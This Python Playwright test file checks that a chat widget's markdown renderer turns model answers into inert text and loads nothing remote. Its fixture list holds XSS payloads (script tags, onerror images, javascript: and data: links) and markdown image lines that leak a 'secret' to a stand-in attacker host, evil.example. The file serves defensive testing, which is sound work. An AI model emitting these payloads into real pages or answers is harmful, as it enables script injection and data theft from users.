"""Answers are data: whatever a model or a poisoned document writes becomes text, never HTML or a remote load."""

import json

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.widget_backend import Script
from tests.e2e.widget_site import Site

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload=window.hacked=1><a xlink:href=javascript:alert(1)>x</a></svg>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click]( java\tscript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](//evil.example/x) [click](/admin)",
    "[click](https://good.example@evil.example/)",
    "<javascript:window.hacked=1>",
    '[click](https://a.example/" onmouseover="window.hacked=1)',
    '[click](https://a.example "title\\" onmouseover=\\"window.hacked=1")',
    "![pixel](https://evil.example/leak?q=secret)",
    "![pixel][leak]\n\n[leak]: https://evil.example/leak?q=secret",
    "[click][run]\n\n[run]: javascript:window.hacked=1",
    "![](https://evil.example/leak)",
    "```html\n<script>window.hacked=1</script>\n```",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <b>c</b> | [d](javascript:window.hacked=1) |",
    "- <iframe src=javascript:window.hacked=1>\n  - <style>*{display:none}</style>",
    "# <base href=https://evil.example>\n> <form action=https://evil.example><button>x</button></form>",
    "&lt;img src=x onerror=window.hacked=1&gt; &#x3C;b>",
    "[" * 3000 + "](" * 3000,
    "*" * 5000 + "a" + "_" * 5000,
    "> " * 2000 + "deep",
    "`" * 4999,
    "[a](" + "(" * 4000,
    "\n".join("  " * n + "- x" for n in range(300)),
    "| a |\n|---|\n" + "|" * 5000,
    "\u202e\u0000 \ufeff",
]

RICH = """async render => {
  const node = document.createElement("div");
  render(node, "---", () => null, false);
  while (!node.querySelector("hr")) await new Promise(done => setTimeout(done));
}"""
"""What draws tables and the like is fetched when it is needed: it is here once a rule is drawn."""
RENDER = """async text => {
  const {render} = await import("./apart/markdown.js");
  await ($RICH)(render);
  const mark = number => number < 3 ? Object.assign(document.createElement("button"), {textContent: number}) : null;
  const whole = document.createElement("div");
  const start = performance.now();
  render(whole, text, mark, false);
  const ms = performance.now() - start;
  // The same text, arriving in pieces, ends as the same nodes.
  const pieces = document.createElement("div");
  const step = Math.max(1, Math.ceil(text.length / 40));
  for (let end = step; end < text.length + step; end += step) render(pieces, text.slice(0, end), mark, true);
  render(pieces, text, mark, false);
  return {html: whole.innerHTML, text: whole.textContent, same: whole.innerHTML === pieces.innerHTML, ms};
}""".replace("$RICH", RICH)


@pytest.fixture(scope="module")
def site(widget_site: Site) -> Site:
    """One page serves all of these tests, so that the site is not emptied between them."""
    return widget_site


@pytest.fixture(scope="module")
def page(site: Site) -> Page:
    """The frame's own page, for its module and its policy."""
    bot = site.backend.add_bot([])
    page = site.page()
    page.goto(f"{site.backend.url}/widget/frame?bot_id={bot}")
    return page


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_stays_text(page: Page, text: str) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    made = page.evaluate(RENDER, text)
    found = page.evaluate(
        """html => {
          const box = new DOMParser().parseFromString(html, "text/html").body;
          const allowed =
            "a,blockquote,button,code,div,em,h3,h4,hr,li,ol,p,pre,s,span,strong,table,tbody,td,th,thead,tr,ul";
          const active = ["src", "srcset", "style", "action", "formaction"];
          return {
            strange: [...box.querySelectorAll(`:not(${allowed})`)].map(node => node.tagName),
            links: [...box.querySelectorAll("a")].map(node => [node.protocol, node.rel, node.target, node.host]),
            handlers: [...box.querySelectorAll("*")].flatMap(node => [...node.attributes].map(a => a.name))
              .filter(name => name.startsWith("on") || active.includes(name)),
          };
        }""",
        made["html"],
    )
    assert found["strange"] == []
    assert found["handlers"] == []
    for protocol, rel, target, host in found["links"]:
        assert protocol in ("http:", "https:", "mailto:")
        assert (rel, target) == ("noopener nofollow", "_blank")
        # A bare address, or an image that became a link: loaded only where a person clicks it.
        assert host != "evil.example" or "leak" in text or "=https://evil.example" in text
    assert page.evaluate("window.hacked") is None
    assert made["same"]
    assert made["ms"] < 500
    assert not [url for url in requests if "evil" in url]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "a **b** *c* _d_ ~~e~~ `f*g*`",
            "<p>a <strong>b</strong> <em>c</em> <em>d</em> <s>e</s> <code>f*g*</code></p>",
        ),
        ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
        ("snake_case_name 2 * 3 * 4 \\*x\\*", "<p>snake_case_name 2 * 3 * 4 *x*</p>"),
        ("# One\n## Two\n### Three", "<h3>One</h3><h3>Two</h3><h4>Three</h4>"),
        ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
        (
            "- a\n- b\n  - c\n    1. d\n- e",
            "<ul><li>a</li><li>b<ul><li>c<ol><li>d</li></ol></li></ul></li><li>e</li></ul>",
        ),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("1. a\n\n2. b\n\nc", "<ol><li>a</li><li>b</li></ol><p>c</p>"),
        ("1. a\n   more\n2. b", "<ol><li>a\nmore</li><li>b</li></ol>"),
        ("Intro:\n- a\n- b", "<p>Intro:</p><ul><li>a</li><li>b</li></ul>"),
        (
            "```js\nlet a = '<b>';\n\n# no\n```\nend",
            "<pre tabindex=\"0\"><code>let a = '&lt;b&gt;';\n\n# no</code></pre><p>end</p>",
        ),
        ("> a\n> b", "<blockquote><p>a\nb</p></blockquote>"),
        ("a [1], b [2] and [7]", "<p>a <button>1</button>, b <button>2</button> and [7]</p>"),
        ("---", "<hr>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ],
)
def test_markdown_becomes_nodes(page: Page, text: str, html: str) -> None:
    made = page.evaluate(RENDER, text)
    assert made["html"] == html
    assert made["same"]


def test_tables_and_links(page: Page) -> None:
    made = page.evaluate(RENDER, "| a | b |\n|:--|--:|\n| **c** | d \\| e |\n\nafter")
    assert made["html"] == (
        '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>'
        "<tbody><tr><td><strong>c</strong></td><td>d | e</td></tr></tbody></table></div><p>after</p>"
    )
    for text, href, label in (
        ("[a *b*](https://x.example/a_(b)?c=1&d)", "https://x.example/a_(b)?c=1&d", "a b"),
        ("see https://x.example/a.", "https://x.example/a", "https://x.example/a"),
        ("<mailto:a@x.example>", "mailto:a@x.example", "mailto:a@x.example"),
        ("![A map](https://x.example/map.png)", "https://x.example/map.png", "A map"),
    ):
        page.evaluate("document.body.append(Object.assign(document.createElement('div'), {id: 'try'}))")
        page.evaluate(
            """async text => {
              const {render} = await import("./apart/markdown.js");
              render(document.getElementById("try"), text, () => null, false);
            }""",
            text,
        )
        link = page.locator("#try a")
        assert (link.get_attribute("href"), link.text_content()) == (href, label)
        page.locator("#try").evaluate("node => node.remove()")


def test_a_hostile_answer_in_the_real_frame_runs_and_loads_nothing(site: Site) -> None:
    bot = site.backend.add_bot([site.origin], name="<b>Bot</b>", welcome_message="<img src=x onerror=alert(1)>")
    text = "\n\n".join(HOSTILE[:21])
    site.backend.scripts["q"] = Script([text[i : i + 9] for i in range(0, len(text), 9)], delay=0)
    page = site.visit(site.embed(bot))
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url))
    page.get_by_role("button", name="Chat: <b>Bot</b>").click()
    frame = page.frame_locator("iframe")
    frame.get_by_role("textbox").fill("q")
    frame.get_by_role("textbox").press("Enter")
    expect(frame.locator(".down")).to_be_visible()
    assert frame.locator("#log :is(script, img, iframe, style, form, base)").count() == 0
    assert frame.locator("main").evaluate("() => window.hacked ?? null") is None
    assert [url for url in outside if not url.startswith((site.backend.url, site.origin))] == []
    assert "Content Security Policy" not in json.dumps(site.said)
